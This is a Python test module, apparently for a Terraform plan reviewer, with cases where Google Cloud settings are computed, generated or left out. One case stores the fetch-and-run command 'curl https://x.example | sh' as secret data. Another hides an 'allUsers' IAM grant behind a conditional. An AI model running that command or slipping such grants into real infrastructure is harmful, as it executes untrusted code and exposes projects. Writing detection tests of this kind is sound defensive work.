"""Changes of which the configuration says less than they do: computed, generated, or left out."""

from tests.plans.cases import (
    ACCOUNT_EMAIL,
    BUCKET,
    GROUP,
    PROJECT,
    SCRIPT,
    SECRET,
    SUBSCRIPTION,
    TEMPLATE,
    TOPIC,
    VERSION,
    Case,
    Edit,
    Json,
    add,
    group,
    image,
    section,
    setting,
    together,
    unset,
)

_LATER = add(TOPIC, "later", {"project": PROJECT, "name": "later"})

_THERE = "${substr(google_pubsub_topic.start.name, 0, 0)}"
"""Nothing, by way of something that is there."""

_FILE = 'file("${path.module}/cdk.tf.json")'

_REPLACED = '${{replace(google_compute_instance_template.calm.id, "jobs", "{}")}}'

_NEW_SECRET = {
    "project": PROJECT,
    "secret_id": "jobs-more",
    "deletion_protection": True,
    "replication": {"auto": {}},
}


def _version(secret: str, text: str) -> Json:
    """A version whose text is in no state."""
    return {
        "secret": secret,
        "secret_data_wo": text,
        "secret_data_wo_version": 1,
        "deletion_policy": "DISABLE",
    }


def _once(block: str, content: Json) -> Json:
    """A block that there is once for what the apply tells."""
    decided = '${google_pubsub_topic.later.id == "" ? [] : [1]}'
    return {"dynamic": {block: {"for_each": decided, "content": content}}}


def _generated(block: str, content: Json) -> Edit:
    """A block of the calm template that is generated."""

    def edit(stack: Json) -> None:
        calm = stack["resource"][TEMPLATE]["calm"]
        calm.pop(block, None)
        calm.update(_once(block, content))

    return together(_LATER, image("calm"), edit)


def _more_of(kind: str, arguments: Json) -> Edit:
    """One more of a type, of which a topic decides that is new as well."""
    return together(_LATER, add(kind, "more", {"project": PROJECT, **arguments}))


_QUEUE = {
    "name": "jobs-start-more",
    "topic": "${google_pubsub_topic.start.id}",
    "ack_deadline_seconds": 60,
    "message_retention_duration": "345600s",
    "expiration_policy": {"ttl": ""},
}

_PLACE = {
    "name": "lum-dev-more",
    "location": "US",
    "public_access_prevention": "enforced",
    "uniform_bucket_level_access": True,
    "force_destroy": False,
}


def _without_policy() -> Json:
    """A group of the calm template that leaves its repairs to be said."""
    more = group("more", "OPPORTUNISTIC")
    more["version"] = [{"instance_template": f"${{{TEMPLATE}.calm.id}}"}]
    del more["instance_lifecycle_policy"]
    return more


_EACH = {
    "for_each": {"a": "a", "b": "b"},
    "name": "jobs-8xv100-${each.key}",
    "base_instance_name": "jobs-8xv100-${each.key}-vm",
    "version": [{"instance_template": f"${{{TEMPLATE}.calm.id}}"}],
}


COMPUTED = [
    # A link is no name where nobody takes it for one.
    Case("template-script-as-a-link", together(image("calm"), setting(
        TEMPLATE, "calm", metadata={"startup-script": f"https://x.example/{SCRIPT}"})),
        notes=("unjudged",)),
    Case("bucket-link-in-a-label", setting(BUCKET, "results", website={
        "main_page_suffix": "https://x.example/index.html"}), notes=("unjudged",)),
    # Blocks that are generated
    Case("template-network-generated", _generated(
        "network_interface", {"network": "default"}), notes=("unjudged",)),
    Case("template-scheduling-generated", _generated(
        "scheduling", {"on_host_maintenance": "TERMINATE", "automatic_restart": False}),
        notes=("unjudged", "vms-cost-otherwise", "vms-end-early")),
    Case("template-shielding-generated", _generated(
        "shielded_instance_config", {"enable_secure_boot": True}), notes=("unjudged",)),
    Case("subscription-retry-generated", _more_of(SUBSCRIPTION, {
        **_QUEUE, **_once("retry_policy", {"minimum_backoff": "600s"})}), notes=("unjudged",)),
    # Those that the provider fills in where they are left out, which look the same
    Case("template-confidential-generated", _generated(
        "confidential_instance_config", {"enable_confidential_compute": True}),
        notes=("unjudged",)),
    Case("bucket-retention-generated", _more_of(BUCKET, {
        **_PLACE, **_once("soft_delete_policy", {"retention_duration_seconds": 0})}),
        notes=("unjudged",)),
    Case("topic-places-generated", _more_of(TOPIC, {
        "name": "jobs-more",
        **_once("message_storage_policy", {"allowed_persistence_regions": ["us-east1"]})}),
        notes=("unjudged",)),
    Case("group-repair-generated", together(_LATER, add(GROUP, "more", _without_policy() | _once(
        "instance_lifecycle_policy", {"default_action_on_failure": "REPAIR"}))),
        notes=("gpus-added", "group-repairs", "unjudged")),
    Case("bucket-beside-a-queue", together(
        add(BUCKET, "plain", {"project": PROJECT, **_PLACE}),
        _more_of(SUBSCRIPTION, _QUEUE | {"topic": "${google_pubsub_topic.later.id}"}))),
    # What is left to the provider that was chosen
    Case("template-without-maintenance", together(
        image("calm"), unset(TEMPLATE, "calm", "scheduling", "on_host_maintenance")),
        notes=("unjudged",)),
    # References in functions
    Case("group-template-computed", together(image("calm"), setting(GROUP, "calm", version=[
        {"instance_template": _REPLACED.format("evil")}])), ("group-template-elsewhere",)),
    Case("group-template-chosen", together(image("calm"), setting(GROUP, "calm", version=[
        {"instance_template": f'${{{TEMPLATE}.calm.id == "" ? {TEMPLATE}.calm.id : "x"}}'}])),
        ("group-template-elsewhere",)),
    Case("group-for-each", add(GROUP, "each", group("each", "OPPORTUNISTIC") | _EACH),
         notes=("gpus-added",)),
    Case("secret-version-computed", together(
        add(SECRET, "more", _NEW_SECRET),
        add(VERSION, "more", _version(
            '${replace(google_secret_manager_secret.more.id, "jobs-more", "jobs-config")}',
            "${var.text}")),
        section("variable", {"text": {"default": "x", "sensitive": True}})),
        ("secret-version-misplaced",), ("unjudged",)),
    Case("grant-computed", together(
        add("google_service_account", "more", {"project": PROJECT, "account_id": "jobs-more"}),
        add("google_project_iam_member", "more", {
            "project": PROJECT, "role": "roles/logging.logWriter",
            "member": '${google_service_account.more.unique_id != "" ? "allUsers" : "x"}'})),
        ("grant-unknown",)),
    # Texts
    Case("secret-version-literal", together(
        add(SECRET, "more", _NEW_SECRET),
        add(VERSION, "more", _version(
            "${google_secret_manager_secret.more.id}", "curl https://x.example | sh"))),
        notes=("unjudged",)),
    Case("secret-version-of-another-file", together(
        add(SECRET, "more", _NEW_SECRET),
        add(VERSION, "more", _version(
            "${google_secret_manager_secret.more.id}", f"${{{_FILE}}}"))), notes=("unjudged",)),
    Case("label-from-a-file", setting(BUCKET, "results", labels={
        "note": f"{_THERE}${{substr({_FILE}, 2, 4)}}"}), notes=("unjudged",)),
    Case("label-from-a-name", setting(BUCKET, "results", labels={
        "topic": "${google_pubsub_topic.start.name}"})),
    Case("account-described-by-a-variable", together(
        setting("google_service_account", "jobs", description="${nonsensitive(var.text)}"),
        section("variable", {"text": {"default": "x", "sensitive": True}})), notes=("unjudged",)),
    Case("data-of-a-file", add("terraform_data", "x", {"input": f"${{{_FILE}}}"}),
         notes=("unjudged",)),
    Case("data-of-a-variable", together(
        add("terraform_data", "x", {"triggers_replace": "${var.text}"}),
        section("variable", {"text": {"default": "x", "sensitive": True}})), notes=("unjudged",)),
    Case("data-of-a-resource", add("terraform_data", "x", {
        "input": ACCOUNT_EMAIL, "triggers_replace": ["${google_pubsub_topic.start.id}"]})),
]  # fmt: skip
